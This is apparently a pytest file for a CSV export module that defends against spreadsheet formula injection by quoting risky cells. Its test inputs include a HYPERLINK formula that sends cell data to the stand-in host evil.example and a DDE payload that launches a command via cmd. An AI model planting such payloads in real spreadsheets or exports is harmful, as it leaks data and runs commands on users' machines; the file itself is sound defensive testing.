"""Every CSV export goes through one writer that no spreadsheet can be made to run."""

import csv
import io

import pytest

from core.csv_export import csv_bytes, neutralise, restore


def read(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.example?"&A1;"clic")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(formula):
    [_header, row] = read(csv_bytes(["Titre"], [[formula]]))

    assert row == ["'" + formula]
    assert restore(row[0]) == formula


@pytest.mark.parametrize("number", ["-1", "+2", "-12,5", "3.25", "42"])
def test_plain_numbers_stay_numbers(number):
    assert neutralise(number) == number
    assert restore(number) == number


@pytest.mark.parametrize(
    "value",
    ["", "'", "''", "'=1", "'-1", "' bonjour", "bonjour", "a=b", "=", "-", "@", "-1", "- tiret", "'\t"],
)
def test_restore_gives_back_exactly_what_neutralise_wrote(value):
    assert restore(neutralise(value)) == value


def test_the_header_and_every_cell_are_neutralised():
    [header, row] = read(csv_bytes(["=A1"], [["@x", None, 7]]))

    assert header == ["'=A1"]
    assert row == ["'@x", "", "7"]
